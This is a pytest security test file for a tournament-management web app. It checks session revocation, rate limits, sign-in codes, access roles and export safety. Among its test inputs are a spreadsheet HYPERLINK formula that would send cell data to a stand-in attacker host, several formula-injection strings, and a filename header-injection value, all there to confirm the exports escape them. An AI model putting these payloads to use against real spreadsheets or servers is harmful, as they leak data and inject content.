"""Attacks on accounts, each tried as an attacker would and each pinned: every test here
failed on the code before the fix (accounts taken over, sessions that outlive sign-out,
unbounded work, exports that attack, 500s).

Each test that changes accounts works on its own fresh world (a demo database in a temp
folder), so the attacks cannot leak into each other or into the access matrix."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import re
import sqlite3
import threading
import time
from collections.abc import Callable, Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from mafiatab.domain.appeals import Filing, Kind, Outcome, Subject
from mafiatab.formats.tournament_json import dumps_tournament
from mafiatab.services.facade import Services
from mafiatab.storage.engine import make_engine
from mafiatab.web.app import create_app
from mafiatab.web.demo import DEMO_PASSWORD, HEAD_JUDGE_NAME, ORGANIZER_NAME
from tests.web.appeal_world import PLAYER_ACCOUNT, appeal_game, player_of
from tests.web.conftest import World, make_world

NEW_PASSWORD = "a-brand-new-password"


@pytest.fixture
def fresh(tmp_path: Path) -> World:
    return make_world(tmp_path)


@pytest.fixture
def app_of() -> Iterator[Callable[..., Any]]:
    def make(world: World, **kw: Any) -> Any:
        return create_app(str(world.db), secret="attack-secret", **kw)

    yield make


def _client(app: Any, base: str = "http://testserver") -> TestClient:
    return TestClient(app, base_url=base)


def _csrf(c: TestClient) -> dict[str, str]:
    return {"X-CSRF-Token": c.get("/api/session").json()["csrf"]}


def _login(c: TestClient, user: str, password: str = DEMO_PASSWORD) -> Any:
    return c.post("/api/login", json={"user": user, "password": password}, headers=_csrf(c))


def _signed(app: Any, user: str, base: str = "http://testserver") -> TestClient:
    c = _client(app, base)
    r = _login(c, user)
    assert r.status_code == 200, r.text
    return c


def _code_login(c: TestClient, code: str) -> Any:
    return c.post("/api/login", json={"code": code}, headers=_csrf(c))


def _me(c: TestClient) -> dict[str, Any]:
    data: dict[str, Any] = c.get("/api/session").json()
    return data


def _db(world: World) -> sqlite3.Connection:
    return sqlite3.connect(str(world.db))


# --- 1. accounts are global; a tournament only grants roles ---------------------------------


def test_a_viewer_cannot_create_a_tournament(fresh: World, app_of: Callable[..., Any]) -> None:
    viewer = _signed(app_of(fresh), "viewer")
    r = viewer.post("/api/tournaments", json={"name": "mine", "rules": "fsm"},
                    headers=_csrf(viewer))
    assert r.status_code == 403, r.text


def test_a_grant_never_sets_an_existing_accounts_password(fresh: World,
                                                          app_of: Callable[..., Any]) -> None:
    app = app_of(fresh)
    org = _signed(app, ORGANIZER_NAME)
    tid = fresh.demo.tournament
    r = org.post(f"/api/t/{tid}/staff", json={"user": HEAD_JUDGE_NAME, "role": "viewer",
                                              "password": NEW_PASSWORD}, headers=_csrf(org))
    assert r.status_code == 422, r.text
    assert _login(_client(app), HEAD_JUDGE_NAME, NEW_PASSWORD).status_code == 401
    assert _login(_client(app), HEAD_JUDGE_NAME).status_code == 200


@pytest.mark.parametrize("target", [HEAD_JUDGE_NAME, ORGANIZER_NAME, "judge1"])
def test_no_code_signs_in_as_an_existing_account(fresh: World, app_of: Callable[..., Any],
                                                 target: str) -> None:
    app = app_of(fresh)
    org = _signed(app, ORGANIZER_NAME)
    tid = fresh.demo.tournament
    # his own account is never his to act on (403); another's exists otherwise (422)
    refused = 403 if target == ORGANIZER_NAME else 422
    r = org.post(f"/api/t/{tid}/staff", json={"user": target, "role": "judge", "code": True},
                 headers=_csrf(org))
    assert r.status_code == refused, r.text
    r = org.post(f"/api/t/{tid}/player-access",
                 json={"player": fresh.sample.players[1].id, "user": target}, headers=_csrf(org))
    assert r.status_code == refused, r.text


def test_a_code_opens_one_tournament_and_one_role(fresh: World,
                                                  app_of: Callable[..., Any]) -> None:
    app = app_of(fresh)
    org = _signed(app, ORGANIZER_NAME)
    tid = fresh.demo.tournament
    other = org.post("/api/tournaments", json={"name": "Другой кубок", "rules": "fsm"},
                     headers=_csrf(org)).json()["id"]
    code = org.post(f"/api/t/{tid}/staff", json={"user": "door-judge", "role": "judge",
                                                 "code": True}, headers=_csrf(org)).json()["code"]
    phone = _client(app)
    assert _code_login(phone, code).status_code == 200
    assert _me(phone)["roles"] == {str(tid): ["judge"]}
    # the code account can be given no role elsewhere, nor a staff role here
    r = org.post(f"/api/t/{other}/staff", json={"user": "door-judge", "role": "viewer"},
                 headers=_csrf(org))
    assert r.status_code == 422, r.text
    r = org.post(f"/api/t/{tid}/staff", json={"user": "door-judge", "role": "head_judge"},
                 headers=_csrf(org))
    assert r.status_code == 422, r.text
    assert phone.get(f"/t/{tid}/manage", follow_redirects=False).status_code == 403


def test_a_code_is_stored_salted_and_shown_once(fresh: World,
                                                app_of: Callable[..., Any]) -> None:
    app = app_of(fresh)
    org = _signed(app, ORGANIZER_NAME)
    tid = fresh.demo.tournament
    code = org.post(f"/api/t/{tid}/staff", json={"user": "door-judge", "role": "judge",
                                                 "code": True}, headers=_csrf(org)).json()["code"]
    listed = org.get(f"/api/t/{tid}/codes").json()
    assert code not in json.dumps(listed)
    plain = {hashlib.sha256(v.encode()).hexdigest()
             for v in (code, code.upper(), code.replace("-", ""))}
    with _db(fresh) as conn:
        dump = "\n".join(conn.iterdump())
    assert code not in dump and code.replace("-", "") not in dump
    assert not any(h in dump for h in plain)


def test_a_revoked_code_and_its_sessions_die(fresh: World, app_of: Callable[..., Any]) -> None:
    app = app_of(fresh)
    org = _signed(app, ORGANIZER_NAME)
    tid = fresh.demo.tournament
    code = org.post(f"/api/t/{tid}/staff", json={"user": "door-judge", "role": "judge",
                                                 "code": True}, headers=_csrf(org)).json()["code"]
    phone = _client(app)
    assert _code_login(phone, code).status_code == 200
    cid = next(c["id"] for c in org.get(f"/api/t/{tid}/codes").json() if c["user"] == "door-judge")
    assert org.delete(f"/api/t/{tid}/codes/{cid}", headers=_csrf(org)).status_code == 200
    assert _me(phone)["user"] is None
    assert _code_login(_client(app), code).status_code == 401


def test_a_code_dies_with_the_tournament_and_its_expiry(fresh: World,
                                                        app_of: Callable[..., Any]) -> None:
    app = app_of(fresh)
    org = _signed(app, ORGANIZER_NAME)
    tid = fresh.demo.tournament
    make = {"role": "judge", "code": True}
    first = org.post(f"/api/t/{tid}/staff", json={"user": "door-a", **make},
                     headers=_csrf(org)).json()["code"]
    second = org.post(f"/api/t/{tid}/staff", json={"user": "door-b", **make, "ttl_minutes": 5},
                      headers=_csrf(org)).json()["code"]
    phone = _client(app)
    assert _code_login(phone, second).status_code == 200
    with _db(fresh) as conn:  # five minutes pass
        conn.execute("UPDATE sign_in_codes SET expires_at = ? WHERE user_name = 'door-b'",
                     ((dt.datetime.now(dt.UTC) - dt.timedelta(minutes=1)).isoformat(),))
    assert _me(phone)["user"] is None
    assert _code_login(_client(app), second).status_code == 401
    org.post(f"/api/t/{tid}/options", json={"finished": True}, headers=_csrf(org))
    assert _code_login(_client(app), first).status_code == 401


# --- 3. sessions are revocable --------------------------------------------------------------


def test_a_copied_cookie_dies_at_sign_out(fresh: World, app_of: Callable[..., Any]) -> None:
    app = app_of(fresh)
    owner = _signed(app, HEAD_JUDGE_NAME)
    thief = _client(app)
    for k, v in owner.cookies.items():
        thief.cookies.set(k, v)
    assert _me(thief)["user"] == HEAD_JUDGE_NAME
    owner.post("/api/logout", headers=_csrf(owner))
    assert _me(thief)["user"] is None


def test_a_password_change_ends_every_other_session(fresh: World,
                                                    app_of: Callable[..., Any]) -> None:
    app = app_of(fresh)
    phone, laptop = _signed(app, "judge1"), _signed(app, "judge1")
    r = laptop.post("/api/account/password", json={"old": DEMO_PASSWORD, "new": NEW_PASSWORD},
                    headers=_csrf(laptop))
    assert r.status_code == 200, r.text
    assert _me(phone)["user"] is None
    assert _me(laptop)["user"] == "judge1"
    assert _login(_client(app), "judge1", NEW_PASSWORD).status_code == 200


def test_sign_out_everywhere(fresh: World, app_of: Callable[..., Any]) -> None:
    app = app_of(fresh)
    a, b = _signed(app, "viewer"), _signed(app, "viewer")
    assert a.post("/api/logout/everywhere", headers=_csrf(a)).status_code == 200
    assert _me(a)["user"] is None and _me(b)["user"] is None


def test_a_removed_role_is_gone_at_once(fresh: World, app_of: Callable[..., Any]) -> None:
    app = app_of(fresh)
    tid = fresh.demo.tournament
    judge = _signed(app, "judge2")
    org = _signed(app, ORGANIZER_NAME)
    r = org.request("DELETE", f"/api/t/{tid}/staff", json={"user": "judge2", "role": "judge"},
                    headers=_csrf(org))
    assert r.status_code == 200, r.text
    assert "judge" not in _me(judge)["roles"].get(str(tid), [])
    assert judge.get(f"/t/{tid}/judge", follow_redirects=False).status_code == 403


def test_an_idle_session_ends(fresh: World, app_of: Callable[..., Any]) -> None:
    app = app_of(fresh)
    c = _signed(app, "viewer")
    with _db(fresh) as conn:
        conn.execute("UPDATE web_sessions SET seen_at = ?",
                     ((dt.datetime.now(dt.UTC) - dt.timedelta(hours=13)).isoformat(),))
    assert _me(c)["user"] is None


# --- 4. rate limits and bounded work --------------------------------------------------------


def test_password_guessing_is_rate_limited(fresh: World, app_of: Callable[..., Any]) -> None:
    app = app_of(fresh)
    c = _client(app)
    statuses = [_login(c, HEAD_JUDGE_NAME, f"guess-{i:04d}-x").status_code for i in range(40)]
    assert statuses.count(429) >= 20, statuses
    r = _login(c, HEAD_JUDGE_NAME, "guess-again-x")
    assert r.status_code == 429
    assert int(r.headers["Retry-After"]) >= 1
    # the one refusal shape, in the asker's language (Russian unless he chose English)
    assert r.json()["error"] == "rate_limited" and r.json()["retry_after"] >= 1
    assert "Слишком много попыток" in r.json()["message"]
    page = c.post("/login", data={"user": HEAD_JUDGE_NAME, "password": "x" * 12,
                                  "csrf": _csrf(c)["X-CSRF-Token"]})
    assert page.status_code == 429 and "Слишком много попыток" in page.text


def test_one_account_is_limited_from_any_address(fresh: World,
                                                 app_of: Callable[..., Any]) -> None:
    from mafiatab.web.security import SignInLimits

    app = app_of(fresh, limits=SignInLimits(per_address="1000/minute"))
    c = _client(app)
    for i in range(10):
        assert _login(c, HEAD_JUDGE_NAME, f"wrong-{i:03d}-pw").status_code == 401
    assert _login(c, HEAD_JUDGE_NAME).status_code == 429  # even the right one, for a while


def test_code_guessing_is_rate_limited(fresh: World, app_of: Callable[..., Any]) -> None:
    app = app_of(fresh)
    c = _client(app)
    statuses = [_code_login(c, f"AB{i:02d}-2345-6789").status_code for i in range(40)]
    assert 429 in statuses and statuses.count(401) <= 30, statuses


def test_a_code_guess_takes_no_write_lock(fresh: World, app_of: Callable[..., Any]) -> None:
    app = app_of(fresh)
    c = _client(app)
    headers = _csrf(c)
    conn = sqlite3.connect(str(fresh.db), isolation_level=None, timeout=30)
    conn.execute("BEGIN IMMEDIATE")  # a long write elsewhere (a judge's save)
    try:
        start = time.monotonic()
        r = c.post("/api/login", json={"code": "ZZZZ-2345-6789"}, headers=headers)
        took = time.monotonic() - start
    finally:
        conn.execute("ROLLBACK")
        conn.close()
    assert r.status_code == 401
    assert took < 3, f"a wrong code waited {took:.1f} s for the write lock"


def test_concurrent_password_hashes_are_bounded(fresh: World, app_of: Callable[..., Any],
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    from argon2 import PasswordHasher

    app = app_of(fresh)
    running, peak, lock = [0], [0], threading.Lock()
    original = PasswordHasher.verify

    def counting(self: PasswordHasher, hash: str, password: str | bytes) -> bool:
        with lock:
            running[0] += 1
            peak[0] = max(peak[0], running[0])
        try:
            time.sleep(0.05)
            return original(self, hash, password)
        finally:
            with lock:
                running[0] -= 1

    monkeypatch.setattr(PasswordHasher, "verify", counting)
    clients = [_client(app) for _ in range(8)]
    heads = [_csrf(c) for c in clients]
    threads = [threading.Thread(target=lambda c=c, h=h: c.post(
        "/api/login", json={"user": "viewer", "password": DEMO_PASSWORD}, headers=h))
        for c, h in zip(clients, heads, strict=True)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert 1 <= peak[0] <= 2, f"{peak[0]} argon2 hashes at once"


def _in_time(call: Callable[[], Any], seconds: float) -> Any:
    """The call's answer if it comes within `seconds` (else the worker hangs: a failure)."""
    box: list[Any] = []
    t = threading.Thread(target=lambda: box.append(call()), daemon=True)
    t.start()
    t.join(seconds)
    assert box, f"no answer within {seconds} s: the request hangs a worker"
    return box[0]


def test_a_billion_games_seating_is_refused_at_once(fresh: World,
                                                    app_of: Callable[..., Any]) -> None:
    head = _signed(app_of(fresh), HEAD_JUDGE_NAME)
    tid = fresh.demo.tournament
    h = _csrf(head)
    r = _in_time(lambda: head.post(f"/api/t/{tid}/seating/generate",
                                   json={"games": 1_000_000_000}, headers=h), 5)
    assert r.status_code == 422, r.text
    r = _in_time(lambda: head.post(f"/t/{tid}/seating/generate",
                                   data={"games": "1000000000", "csrf": h["X-CSRF-Token"]}), 5)
    assert r.status_code == 422, r.text
    r = _in_time(lambda: head.post(f"/t/{tid}/seating/generate", data={
        "games": "2", "availability": f"{fresh.sample.players[0].id}: 1-999999999",
        "csrf": h["X-CSRF-Token"]}), 5)
    assert r.status_code == 422, r.text


def test_huge_fields_are_refused(fresh: World, app_of: Callable[..., Any]) -> None:
    app = app_of(fresh)
    tid, code = fresh.demo.tournament, fresh.demo.open_games[0]
    judge = _signed(app, "judge1")
    h = _csrf(judge)
    r = judge.post(f"/t/{tid}/games/{code}/draft",
                   data={"base": "1", "protest": "x" * (10 * 1024 * 1024), "csrf": h["X-CSRF-Token"]})
    assert r.status_code in (413, 422), r.status_code
    r = judge.post(f"/t/{tid}/games/{code}/draft",
                   data={"base": "1", "expl_3": "x" * 100_000, "csrf": h["X-CSRF-Token"]})
    assert r.status_code == 422, r.status_code
    player = _signed(app, PLAYER_ACCOUNT)
    r = player.post(f"/api/t/{tid}/appeals/{fresh.case}/messages",
                    json={"text": "y" * (5 * 1024 * 1024)}, headers=_csrf(player))
    assert r.status_code in (413, 422), r.status_code


# --- 5. four eyes ---------------------------------------------------------------------------


def test_a_head_judge_cannot_decide_what_he_filed_for_a_player(fresh: World) -> None:
    engine = make_engine(str(fresh.db))
    try:
        svc = Services(engine)
        tid = fresh.demo.tournament
        svc.tournaments.set_options(tid, actor=ORGANIZER_NAME, confirmer_must_differ=True)
        game = next(g for g in fresh.sample.games if g.id == appeal_game(fresh))
        other = next(x.player for x in game.seats if x.player != player_of(fresh))
        case = svc.appeals.file(tid, Filing(kind=Kind.APPEAL, player=other,
                                    game=appeal_game(fresh), subject=Subject.OTHER,
                                    awarded=Decimal("0"), claimed=Decimal("0.4"),
                                    text="filed for the player"), actor=HEAD_JUDGE_NAME)
        from mafiatab.services.tournaments import PermissionDenied

        with pytest.raises(PermissionDenied):
            svc.appeals.decide(tid, case.id, actor=HEAD_JUDGE_NAME, outcome=Outcome.REJECTED,
                       reason="decided by the one who filed it")
        assert svc.appeals.case(tid, case.id, actor=HEAD_JUDGE_NAME).case.status.value == "open"
        # another decider may
        svc.access.grant(tid, "second-head", "head_judge", actor=ORGANIZER_NAME)
        view, _effect = svc.appeals.decide(tid, case.id, actor="second-head", outcome=Outcome.REJECTED,
                                   reason="a second pair of eyes")
        assert view.case.status.value != "open"
    finally:
        engine.dispose()


# --- 6. exports that cannot attack ----------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _evil_standings(world: World) -> Any:
    from mafiatab.formats.xlsx import workbook_bytes
    from mafiatab.services.facade import Services
    from mafiatab.services.tournament_file import profile_for

    engine = make_engine(str(world.db))
    try:
        svc = Services(engine)
        t = svc.tournaments.tournament(world.demo.tournament)
        for p in t.players[:3]:
            p.nickname = {0: EVIL, 1: "+1+2", 2: "@SUM(1)"}[t.players.index(p)]
        from mafiatab.domain.standings import compute_standings

        profile, _ = profile_for(t)
        s = compute_standings(t, profile)
        return s, workbook_bytes(s, t, profile, "ru")
    finally:
        engine.dispose()


def test_xlsx_keeps_formulas_as_text_and_numbers_as_numbers(world: World) -> None:
    _s, data = _evil_standings(world)
    wb = load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    texts = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "@"))]
    assert texts, "the crafted nicknames are in the workbook"
    assert all(c.data_type == "s" for c in texts), [(c.value, c.data_type) for c in texts]
    numbers = [c.value for c in cells if isinstance(c.value, int | float)]
    assert any(v < 0 for v in numbers) or numbers, "points stay numbers"


def test_csv_cells_are_escaped_and_negative_numbers_stay(world: World) -> None:
    from mafiatab.formats.csv_export import standings_csv

    s, _data = _evil_standings(world)
    text = standings_csv(s, "en").decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + EVIL in cells and "'+1+2" in cells and "'@SUM(1)" in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    from mafiatab.formats.csv_export import table_csv

    out = table_csv(["x", "y", "z"], [[Decimal("-0.5"), "-0.5", "\tcmd"]], decimal_comma=True)
    row = next(csv.reader(io.StringIO(out.decode("utf-8-sig").splitlines()[1]), delimiter=";"))
    assert row == ["-0,5", "'-0.5", "'\tcmd"]  # a number stays a number; a text never runs


def test_cyrillic_ids_download_with_a_safe_name(fresh: World, app_of: Callable[..., Any]) -> None:
    from mafiatab.domain.protocol import Stage
    from mafiatab.services.facade import Services

    engine = make_engine(str(fresh.db))
    tid = fresh.demo.tournament
    try:
        svc = Services(engine)
        svc.tournaments.add_stage(tid, Stage(id="финал", name="Финал", kind="final"), actor=ORGANIZER_NAME)
        seated = [p.id for p in fresh.sample.players[:10]]
        info = svc.games.enter_seating(tid, "финал", 1, 1, seated, actor=HEAD_JUDGE_NAME)
    finally:
        engine.dispose()
    head = _signed(app_of(fresh), HEAD_JUDGE_NAME)
    for url in (f"/t/{tid}/games/{info.game}/protocol.pdf",
                f"/t/{tid}/export/blank.pdf?stage=финал&round=1"):
        r = head.get(url)
        assert r.status_code == 200, (url, r.status_code)
        assert SAFE_DISPOSITION.fullmatch(r.headers["content-disposition"]), r.headers
    r = head.get(f"/t/{tid}/export/blank.pdf", params={"stage": 'x"; filename=evil.exe', "round": 1})
    assert SAFE_DISPOSITION.fullmatch(r.headers["content-disposition"]), r.headers


#: RFC 6266: one plain ASCII file name, and the real one percent-encoded in UTF-8
SAFE_DISPOSITION = re.compile(r"attachment; filename=\"[A-Za-z0-9._-]+\"; "
                              r"filename\*=UTF-8''[A-Za-z0-9%._~-]+")


def test_a_backup_is_private_and_restore_checks_the_schema(fresh: World, tmp_path: Path) -> None:
    from mafiatab.storage.backup import BackupError, backup_sqlite, restore_sqlite

    target = tmp_path / "copy.sqlite"
    backup_sqlite(fresh.db, target)
    assert target.stat().st_mode & 0o777 == 0o600
    with sqlite3.connect(str(target)) as conn:
        conn.execute("UPDATE alembic_version SET version_num = '0003'")
    with pytest.raises(BackupError) as refused:
        restore_sqlite(target, fresh.db)
    assert refused.value.code == "other_version"


# --- 7. input hygiene -----------------------------------------------------------------------


def test_no_500_for_huge_numbers_unknown_keys_or_odd_digits(fresh: World,
                                                            app_of: Callable[..., Any]) -> None:
    app = app_of(fresh)
    tid, code = fresh.demo.tournament, fresh.demo.open_games[0]
    org = _signed(app, ORGANIZER_NAME)
    judge = _signed(app, "judge1")
    c = TestClient(app, raise_server_exceptions=False)
    h, hj = _csrf(org), _csrf(judge)
    answers = [
        c.get(f"/t/{10**30}/standings"),
        c.get(f"/api/t/{10**30}/games"),
        org.post(f"/api/t/{tid}/players", json={"players": [{"id": "zz", "nickname": "z",
                                                             "bogus": 1}]}, headers=h),
        org.post(f"/api/t/{tid}/options", json={"finished": False, "bogus": 1}, headers=h),
        judge.put(f"/api/t/{tid}/games/{code}/draft",
                  json={"base_revision": 10**40, "protocol": {}}, headers=hj),
        judge.post(f"/t/{tid}/games/{code}/check",
                   data={"base": "1", "first_killed": "²", "fouls_2": "³", "day1_vote_left": "¹",
                         "extra_3": "1e999999999", "day_1_votes": "3:" + "9" * 5000,
                         "csrf": hj["X-CSRF-Token"]}),
        org.post(f"/t/{tid}/setup/seating", data={"seating": "qual ² ³ " + " ".join("x" * 10),
                                                  "csrf": h["X-CSRF-Token"]}),
    ]
    assert [r.status_code for r in answers if r.status_code >= 500] == []
    assert answers[2].status_code == 422 and answers[3].status_code == 422
    assert answers[4].status_code == 422


def test_passwords_have_ten_characters(fresh: World, app_of: Callable[..., Any]) -> None:
    app = app_of(fresh)
    org = _signed(app, ORGANIZER_NAME)
    tid = fresh.demo.tournament
    r = org.post(f"/api/t/{tid}/staff", json={"user": "newbie", "role": "viewer",
                                              "password": "x"}, headers=_csrf(org))
    assert r.status_code == 422, r.text
    r = org.post("/api/account/password", json={"old": DEMO_PASSWORD, "new": "short"},
                 headers=_csrf(org))
    assert r.status_code == 422, r.text


def test_names_are_normalized(fresh: World, app_of: Callable[..., Any]) -> None:
    app = app_of(fresh)
    org = _signed(app, ORGANIZER_NAME)
    tid = fresh.demo.tournament
    r = org.post(f"/api/t/{tid}/staff", json={"user": "  ＨｅａｄＪｕｄｇｅ ", "role": "viewer"},
                 headers=_csrf(org))
    assert r.status_code == 200, r.text
    with _db(fresh) as conn:
        names = [n for (n,) in conn.execute("SELECT name FROM users")]
    assert [n for n in names if n.strip().casefold() == "headjudge"] == ["headjudge"]
    assert len(names) == len({n.casefold() for n in names})
    head = _signed(app, HEAD_JUDGE_NAME)
    assert "viewer" in _me(head)["roles"][str(tid)]
    assert _login(_client(app), " HeadJudge", DEMO_PASSWORD).status_code == 200


def test_the_web_import_and_the_seating_upload_work(fresh: World,
                                                    app_of: Callable[..., Any]) -> None:
    app = app_of(fresh)
    org = _signed(app, ORGANIZER_NAME)
    h = _csrf(org)["X-CSRF-Token"]
    data = dumps_tournament(fresh.sample).encode()
    r = org.post("/import", data={"csrf": h}, files={"file": ("cup.json", data, "application/json")},
                 follow_redirects=False)
    assert r.status_code == 303, r.text
    new = int(r.headers["location"].split("/")[2])
    assert new != fresh.demo.tournament
    assert len(org.get(f"/api/t/{new}/games").json()) == len(fresh.sample.games)
    # the seating of a format-1 file, into the demo tournament's final
    final = [g for g in fresh.sample.games if g.stage == "final"]
    assert final, "the sample has a final"
    seating = fresh.sample
    seating.games = final
    r = org.post(f"/t/{fresh.demo.tournament}/setup/seating-file", data={"csrf": h},
                 files={"file": ("seat.json", dumps_tournament(seating).encode(), "application/json")},
                 follow_redirects=False)
    assert r.status_code == 303, r.text
    games = {g["game"] for g in org.get(f"/api/t/{fresh.demo.tournament}/games").json()}
    from mafiatab.services.web_support import seating_game_id

    assert {seating_game_id(g.stage, g.round, g.table) for g in final} <= games


# --- a hall without HTTPS -------------------------------------------------


def test_the_cookie_is_secure_only_over_https(world: World, app_of: Callable[..., Any]) -> None:
    app = app_of(world)
    for base, secure in (("http://192.168.1.20:8000", False), ("https://cup.example", True)):
        c = _client(app, base)
        r = _login(c, "viewer")
        assert r.status_code == 200, r.text
        cookie = r.headers["set-cookie"].lower()
        assert ("secure" in cookie) is secure, (base, cookie)
        assert "httponly" in cookie and "samesite=lax" in cookie
        assert _me(c)["user"] == "viewer"  # and it works: the phone stays signed in


def test_the_organizer_is_told_once_what_plain_http_means(world: World,
                                                          app_of: Callable[..., Any]) -> None:
    app = app_of(world)
    org = _signed(app, ORGANIZER_NAME, "http://192.168.1.20:8000")
    tid = world.demo.tournament
    first = org.get(f"/t/{tid}/setup").text
    again = org.get(f"/t/{tid}/setup").text
    assert 'id="plain-http"' in first and "HTTP" in first
    assert 'id="plain-http"' not in again
    loopback = _signed(app, ORGANIZER_NAME, "http://127.0.0.1:8000")
    assert 'id="plain-http"' not in loopback.get(f"/t/{tid}/setup").text


def test_the_first_account_is_the_organizer_and_gives_the_right(tmp_path: Path) -> None:
    from mafiatab.services.facade import Services
    from mafiatab.services.tournaments import PermissionDenied
    from mafiatab.storage.engine import upgrade

    engine = make_engine(str(tmp_path / "new.sqlite"))
    try:
        upgrade(engine)
        svc = Services(engine)
        assert svc.accounts.add_account("Первый", "a-long-password", actor="operator") is True
        assert svc.accounts.add_account("second", "a-long-password", actor="operator") is False
        with pytest.raises(PermissionDenied):
            svc.tournaments.new_tournament("cup", "fsm", actor="second")
        with pytest.raises(PermissionDenied):
            svc.access.give_organizer("первый", actor="second")
        svc.access.give_organizer("second", actor="первый")
        assert svc.tournaments.new_tournament("cup", "fsm", actor="second") > 0
    finally:
        engine.dispose()


def test_a_flooding_address_is_refused_before_any_other_middleware(
        fresh: World, app_of: Callable[..., Any]) -> None:
    """The gate is the outermost layer but the metrics' count (a refused sign-in costs
    no session cookie or header work: `bench/web.py --flood`), and its 429 (the API's one
    refusal shape) still carries the headers that keep a browser from sniffing or
    framing it."""
    from mafiatab.web.security import SignInGate
    from mafiatab.web.watch import Watch

    app = app_of(fresh)
    assert [m.cls for m in app.user_middleware[:2]] == [Watch, SignInGate]
    c = _client(app)
    headers = _csrf(c)
    plain = None
    for i in range(60):
        r = c.post("/api/login", json={"user": f"nobody{i}", "password": f"g-{i:04d}-xx"},
                   headers=headers)
        # the gate's own answer: none of the app's middleware added its headers
        if r.status_code == 429 and "content-security-policy" not in r.headers:
            plain = r
            break
    assert plain is not None, "the gate never answered for an address over its limit"
    assert plain.headers["content-type"].startswith("application/json")
    assert plain.json()["error"] == "rate_limited" and plain.json()["problems"]
    assert plain.headers["x-content-type-options"] == "nosniff"
    assert plain.headers["x-frame-options"] == "DENY"
    assert int(plain.headers["retry-after"]) >= 1
